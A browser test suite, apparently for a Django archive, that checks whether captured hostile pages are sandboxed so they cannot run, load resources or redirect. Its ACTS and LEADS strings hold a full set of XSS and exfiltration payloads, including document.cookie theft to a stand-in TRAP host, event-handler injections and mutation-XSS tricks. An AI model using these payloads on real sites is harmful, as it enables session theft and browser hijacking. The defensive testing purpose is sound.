"""Hostile pages that were captured are looked at in a real browser, and nothing of them runs, loads or leads away."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from django.urls import reverse
from playwright.sync_api import Page, expect

from sources import snapshot_admin
from sources.models import Snapshot
from tests import factories as make
from tests.journeys.conftest import Picture
from tests.journeys.test_main_road import sign_in
from tests.web.server import Conversation, MisbehavingWeb
from verification import roles

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.journey]
# What tries to run or to load. TRAP is an address where somebody listens.
ACTS = """
<script>new Image().src = "TRAP/script?" + document.cookie; fetch("TRAP/fetch"); top.location = "TRAP/top"</script>
<script src="TRAP/src.js"></script><script type=module>import "TRAP/module.js"</script>
<script>navigator.serviceWorker && navigator.serviceWorker.register("/sw.js"); document.title = "owned"</script>
<img src=x onerror="this.src='TRAP/onerror?' + document.cookie"><img src="TRAP/img.png" srcset="TRAP/2x.png 2x">
<body onload="location='TRAP/onload'"><svg onload="fetch('TRAP/svg')"><image href="TRAP/svg.png" />
<script>fetch('TRAP/svgscript')</script><use href="TRAP/use.svg#a"/></svg>
<style>@import "TRAP/import.css"; @font-face { font-family: f; src: url(TRAP/font.woff2) } body { font-family: f;
background: url(TRAP/background.png) }</style><p style="background-image: url(TRAP/style.png)">Styled</p>
<link rel=stylesheet href="TRAP/link.css"><link rel=icon href="TRAP/icon.png">
<link rel=preload as=image href="TRAP/pre.png">
<link rel=modulepreload href="TRAP/modulepreload.js"><link rel=manifest href="TRAP/manifest.json">
<iframe src="TRAP/frame"></iframe><iframe srcdoc="<script>fetch('TRAP/srcdoc')</script>"></iframe>
<object data="TRAP/object"></object><embed src="TRAP/embed">
<video src="TRAP/video" poster="TRAP/poster" autoplay></video>
<audio src="TRAP/audio" autoplay></audio><input type=image src="TRAP/input.png">
<details open ontoggle="fetch('TRAP/t')">
<summary>More</summary></details><input autofocus onfocus="fetch('TRAP/focus')"><form id=f action="TRAP/form"></form>
<script>document.getElementById("f").submit()</script><math><mi xlink:href="TRAP/math">x</mi></math>
<noscript><p title="</noscript><img src=TRAP/mutation.png>"></p></noscript>
<template><img src="TRAP/template.png"></template>
<p>Four helicopters were sold.</p>
"""
# What leads away of itself or by a click, or opens connections ahead; no policy of a page forbids that.
LEADS = """<meta http-equiv=refresh content="0;url=TRAP/refresh"><base href="TRAP/base/" target=_top>
<link rel=dns-prefetch href="TRAP"><link rel=preconnect href="TRAP"><link rel=prefetch href="TRAP/prefetch">
<a href="TRAP/link" ping="TRAP/ping">Link</a> <a href="javascript:fetch('TRAP/js')">Script</a>
<map name=m><area href="TRAP/area" shape=default></map><button form=f formaction="TRAP/button">Button</button>
"""


@pytest.fixture
def trap() -> Iterator[MisbehavingWeb]:
    async def caught(talk: Conversation) -> None:
        await talk.answer(200, b"caught", Access_Control_Allow_Origin="*")

    with MisbehavingWeb({"/caught": caught}) as web:
        yield web


def captured(html: str, trap: MisbehavingWeb) -> Snapshot:
    body = html.replace("TRAP", trap.origin).encode()
    return make.checked(make.a_source(), make.a_result(body=body, title="A hostile page")).snapshots.get()


def door(live_server, shot: Snapshot, name: str) -> str:
    return live_server.url + reverse(f"admin:sources_snapshot_{name}", args=[shot.pk])


def test_a_hostile_page_is_only_looked_at(page: Page, live_server, trap: MisbehavingWeb, picture: Picture):
    make.a_user(roles.EDITOR, name="edda")
    shot = captured(LEADS + ACTS, trap)
    sign_in(page, live_server.url, "edda")
    assert "csrftoken" in {cookie["name"] for cookie in page.context.cookies()}  # there is something to steal

    page.goto(door(live_server, shot, "page"))
    frame = page.frame_locator("iframe")
    expect(frame.get_by_text("Four helicopters were sold.")).to_be_visible()
    for words in ("Link", "Script"):
        frame.get_by_text(words).click()
    page.wait_for_timeout(1_000)
    picture("captured-page")
    assert page.url == door(live_server, shot, "page")
    assert "hostile" in page.title()
    assert len(page.frames) == 2
    assert page.evaluate("navigator.serviceWorker.getRegistrations().then(all => all.length)") == 0

    page.goto(door(live_server, shot, "frame"))  # the frame's address, opened by itself
    page.get_by_text("Link").click()
    page.wait_for_timeout(1_000)
    assert page.url == door(live_server, shot, "frame")
    assert page.evaluate("origin") == "null"
    assert trap.connections == 0


def test_the_headers_alone_keep_a_page_from_running_and_loading(
    page: Page, live_server, trap: MisbehavingWeb, monkeypatch: pytest.MonkeyPatch
):
    """Both walls hold by themselves: here the page is served as it came, but for what leads away."""
    monkeypatch.setattr(snapshot_admin, "harmless_html", lambda body, content_type: body.decode())
    make.a_user(roles.EDITOR, name="edda")
    shot = captured(ACTS, trap)
    sign_in(page, live_server.url, "edda")

    for name in ("page", "frame"):
        page.goto(door(live_server, shot, name))
        page.wait_for_timeout(1_000)
        assert page.url == door(live_server, shot, name)
    expect(page.get_by_text("Four helicopters were sold.")).to_be_visible()
    assert trap.requests == 0  # Chromium opens a connection ahead where it sees an address, and says nothing


def test_the_trap_would_have_caught_somebody(page: Page, trap: MisbehavingWeb):
    page.set_content(ACTS.replace("TRAP", trap.origin))
    page.wait_for_timeout(500)
    assert trap.requests > 5
